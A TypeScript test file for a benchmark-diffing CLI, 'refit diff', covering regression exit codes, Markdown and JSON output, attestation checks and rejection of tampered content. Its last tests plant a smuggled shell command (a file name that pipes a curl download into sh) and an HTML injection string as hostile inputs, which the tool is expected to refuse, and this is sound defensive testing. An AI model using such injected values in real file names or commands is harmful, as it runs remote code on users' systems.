// `refit diff` on a temp copy of the site fixture with versions whose numbers were edited: an
// injected regression exits 1, a noise-sized move exits 0, unknown versions exit 2. The exit codes
// are checked once through the real CLI; the other cases call the command in process. Tampered or
// hostile content (a changed file, a suite file or commit that is not what it claims) exits 2 with
// one line naming the file and field.
import { spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { UsageError } from "../../../src/pipeline/commands/command.ts";
import { diffCommand } from "../../../src/pipeline/commands/diff.ts";
import { sha256Hex } from "../../../src/pipeline/artifacts/hash.ts";
import { editedVersion, fixtureVersion, FIXTURE_CONTENT, handMadeBundle, moveLayer, publish, withLayerIntervals } from "../publish/helpers.ts";

const ROOT = path.resolve(import.meta.dirname, "../../..");
const BIN = path.join(ROOT, "bin/refit.mjs");
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "refit-diff-"));
const content = path.join(tmp, "content");
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

const refit = (args: string[]) => spawnSync(process.execPath, [BIN, "diff", ...args, "--content", content], { cwd: ROOT, encoding: "utf8", timeout: 60_000 });

async function diff(args: string[]): Promise<{ status: number; stdout: string }> {
  const log = vi.spyOn(console, "log").mockImplementation(() => {});
  try {
    const status = await diffCommand.main([...args, "--content", content]);
    return { status, stdout: log.mock.calls.map((c) => c.join(" ")).join("\n") };
  } finally {
    log.mockRestore();
  }
}

beforeAll(() => {
  fs.cpSync(FIXTURE_CONTENT, content, { recursive: true });
  const base = editedVersion(fixtureVersion(), "2026-03-01.1", withLayerIntervals(0.01));
  publish(content, base, "2026-03-01T00:00:00.000Z");
  publish(content, editedVersion(base, "2026-03-02.1", moveLayer(0, -0.005)), "2026-03-02T00:00:00.000Z");
  publish(content, editedVersion(base, "2026-03-03.1", moveLayer(0, -0.05)), "2026-03-03T00:00:00.000Z");
});

describe("refit diff", () => {
  it("exits 1 on a stability drop beyond the bootstrap interval, through the CLI", () => {
    const r = refit(["2026-03-01.1", "latest"]);
    expect(r.status).toBe(1);
    expect(r.stdout).toMatch(/^2026-03-01\.1 -> 2026-03-03\.1: 1 regression\(s\) beyond seed noise/);
    expect(r.stdout).toMatch(/tiny\/0189587ab56a\s+layer 1 anchor stability\s+0\.986\s+0\.936\s+-0\.050\s+\[0\.976, 0\.996\]\s+0\.020\s+REGRESSION/);
  });

  it("exits 0 on a noise-sized move, through the CLI", () => {
    const r = refit(["2026-03-01.1", "previous"]);
    expect(r.status, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/layer 1 anchor stability\s+0\.986\s+0\.981\s+-0\.005\s+\[0\.976, 0\.996\]\s+0\.020\s+within noise/);
  });

  it("returns 0 when a threshold makes the drop too small to count", async () => {
    expect((await diff(["2026-03-01.1", "latest", "--threshold", "layerStability=0.1"])).status).toBe(0);
    expect((await diff(["2026-03-01.1", "latest", "--threshold", "layerStability=0.01"])).status).toBe(1);
  });

  it("prints a Markdown job summary with --markdown", async () => {
    const r = await diff(["previous", "latest", "--markdown"]);
    expect(r.status).toBe(1);
    expect(r.stdout.startsWith("### Refit: 2026-03-02.1 → 2026-03-03.1\n\n⚠️ 1 regression(s) beyond seed noise")).toBe(true);
    // previous (2026-03-02.1) is 0.005 lower; its interval stayed at 0.986 ± 0.01.
    expect(r.stdout).toContain("| `tiny/0189587ab56a` | layer 1 anchor stability | 0.981 | 0.936 | -0.045 | [0.976, 0.996] | 0.020 | **REGRESSION** |");
  });

  it("prints the diff as JSON with --json, with the same regression as the table", async () => {
    const r = await diff(["2026-03-01.1", "latest", "--json"]);
    expect(r.status).toBe(1);
    const d = JSON.parse(r.stdout);
    expect([d.from, d.to, d.regressions, d.added, d.removed]).toEqual(["2026-03-01.1", "2026-03-03.1", 1, [], []]);
    const [worst] = d.moves;
    expect(worst).toMatchObject({ suite: "tiny", metric: "layer 1 anchor stability", beyondNoise: true, regression: true });
    expect(worst.before - worst.after).toBeCloseTo(0.05, 12);
    expect(worst.delta).toBeCloseTo(-0.05, 12);
    expect(d.moves.filter((m: { regression: boolean }) => m.regression)).toHaveLength(1);
  });

  it("says per version whether it is attested, what matched and the command that checks the signature, in every format", async () => {
    const dir = (id: string) => path.join(content, "versions", id);
    const manifestSha = (id: string) => sha256Hex(fs.readFileSync(path.join(dir(id), "manifest.json")));
    fs.writeFileSync(path.join(dir("2026-03-03.1"), "attestation.json"), JSON.stringify(handMadeBundle(manifestSha("2026-03-03.1"))));
    // A bundle of another version's manifest, as a copy into the wrong folder would leave.
    fs.writeFileSync(path.join(dir("2026-03-02.1"), "attestation.json"), JSON.stringify(handMadeBundle(manifestSha("2026-03-01.1"))));
    try {
      const r = refit(["2026-03-01.1", "latest"]);
      expect(r.status).toBe(1);
      const shown = (id: string) => path.join(content, "versions", id);
      expect(r.stdout.trimEnd().split("\n").slice(-2)).toEqual([
        "attestation of 2026-03-01.1: not attested (published before attestation / built locally)",
        `attestation of 2026-03-03.1: attested: manifest.json's SHA-256 is the attestation's subject, made by example-org/refit's .github/workflows/nightly.yml (refs/heads/main); the signature is checked by: gh attestation verify ${shown("2026-03-03.1")}/manifest.json --bundle ${shown("2026-03-03.1")}/attestation.json --repo example-org/refit --signer-workflow example-org/refit/.github/workflows/nightly.yml`,
      ]);
      const md = await diff(["previous", "latest", "--markdown"]);
      expect(md.stdout).toContain(`\n- attestation of 2026-03-02.1: attestation DOES NOT MATCH: the attestation is of SHA-256 ${manifestSha("2026-03-01.1").slice(0, 12)}…, but manifest.json's is ${manifestSha("2026-03-02.1").slice(0, 12)}…`);
      const json = JSON.parse((await diff(["previous", "latest", "--json"])).stdout);
      expect(json.attestation).toEqual({
        "2026-03-02.1": { state: "mismatch", problem: expect.stringContaining("this manifest is not the one attested"), repository: "example-org/refit" },
        "2026-03-03.1": { state: "matches", repository: "example-org/refit", ref: "refs/heads/main" },
      });
    } finally {
      for (const id of ["2026-03-02.1", "2026-03-03.1"]) fs.rmSync(path.join(dir(id), "attestation.json"));
    }
  });

  it("says the newer version's attestation follows, with --attestation-pending, where its bundle is not there yet", async () => {
    const r = await diff(["previous", "latest", "--markdown", "--attestation-pending"]);
    expect(r.stdout.trimEnd().split("\n").slice(-2)).toEqual([
      "- attestation of 2026-03-02.1: not attested (published before attestation / built locally)",
      "- attestation of 2026-03-03.1: not attested yet: the nightly's job attest attests it after this summary is written (see the version's attestation.json once it has run)",
    ]);
    // A bundle already there is checked as ever: pending words only a missing one.
    const dir = path.join(content, "versions", "2026-03-03.1");
    fs.writeFileSync(path.join(dir, "attestation.json"), JSON.stringify(handMadeBundle(sha256Hex(fs.readFileSync(path.join(dir, "manifest.json"))))));
    try {
      expect((await diff(["previous", "latest", "--markdown", "--attestation-pending"])).stdout).toContain("\n- attestation of 2026-03-03.1: attested: manifest.json's SHA-256 is the attestation's subject");
    } finally {
      fs.rmSync(path.join(dir, "attestation.json"));
    }
  });

  it("refuses --markdown with --json", async () => {
    await expect(diff(["previous", "latest", "--json", "--markdown"])).rejects.toThrow(/give one/);
  });

  it("refuses unknown versions and thresholds as usage errors (exit 2), naming what is published", async () => {
    await expect(diff(["2026-09-09.1", "latest"])).rejects.toThrow(UsageError);
    await expect(diff(["2026-09-09.1", "latest"])).rejects.toThrow(/no version "2026-09-09.1" in .*\(published: 2026-01-05.1, 2026-02-09.1, 2026-02-23.1, 2026-02-26.1, 2026-03-01.1, 2026-03-02.1, 2026-03-03.1\)/);
    await expect(diff(["latest", "latest", "--threshold", "loss=1"])).rejects.toThrow(/--threshold must be metric=x/);
  });
});

describe("refit diff and refit site on tampered or hostile content", () => {
  /** A copy of the fixture content with one file of the latest version edited. */
  function tampered(name: string, file: string, edit: (text: string) => string): string {
    const root = path.join(tmp, name);
    fs.cpSync(FIXTURE_CONTENT, root, { recursive: true });
    const f = path.join(root, "versions", "2026-02-09.1", file);
    fs.writeFileSync(f, edit(fs.readFileSync(f, "utf8")));
    return root;
  }

  /** Re-signs a manifest after its result file was edited, as a deliberate forger would. */
  function resign(root: string, file: string): void {
    const dir = path.join(root, "versions", "2026-02-09.1");
    const manifest = JSON.parse(fs.readFileSync(path.join(dir, "manifest.json"), "utf8"));
    for (const s of manifest.suites) if (s.result.file === file) s.result.sha256 = sha256Hex(fs.readFileSync(path.join(dir, file)));
    fs.writeFileSync(path.join(dir, "manifest.json"), JSON.stringify(manifest));
  }

  const run = (root: string) => spawnSync(process.execPath, [BIN, "diff", "previous", "latest", "--content", root], { cwd: ROOT, encoding: "utf8", timeout: 60_000 });

  function expectOneLine(r: ReturnType<typeof run>, pattern: RegExp): void {
    expect(r.status).toBe(2);
    expect(r.stdout).toBe("");
    expect(r.stderr.trimEnd().split("\n")).toHaveLength(1);
    expect(r.stderr).toMatch(pattern);
    expect(r.stderr).not.toMatch(/\n\s+at /);
  }

  it("exits 2 with one line when a published file no longer matches its SHA-256", () => {
    const root = tampered("changed", "tiny.json", (t) => t.replace('"description"', '"description" ').replace(/\n$/, " \n"));
    expectOneLine(run(root), /^refit: .*tiny\.json: its SHA-256 is [0-9a-f]{64}, but .*manifest\.json suites\.\d\.result\.sha256 says/);
  });

  it("exits 2 naming suite.file when a result would paste shell text into the reproduce command", () => {
    const root = tampered("hostile-file", "tiny.json", (t) => t.replace('"file": "test/fixtures/suites/tiny.yaml"', '"file": "x.yaml; curl example.com | sh #.yaml"'));
    resign(root, "tiny.json");
    expectOneLine(run(root), /^refit: .*tiny\.json: suite\.file: a relative path of letters/);
  });

  it("exits 2 naming gitCommit when a manifest's commit is not a commit hash", () => {
    const root = tampered("hostile-commit", "manifest.json", (t) => t.replace(/"gitCommit": "[0-9a-f]+"/, '"gitCommit": "<img src=x>"'));
    expectOneLine(run(root), /^refit: .*manifest\.json: gitCommit: a full git commit hash/);
  });

  it("refit site refuses the same content before building anything", () => {
    const root = path.join(tmp, "hostile-commit");
    const out = path.join(tmp, "site-out");
    const r = spawnSync(process.execPath, [BIN, "site", "--content", root, "--out", out], { cwd: ROOT, encoding: "utf8", timeout: 60_000 });
    expectOneLine(r, /^refit: .*manifest\.json: gitCommit: a full git commit hash/);
    expect(fs.existsSync(out)).toBe(false);
  });
});
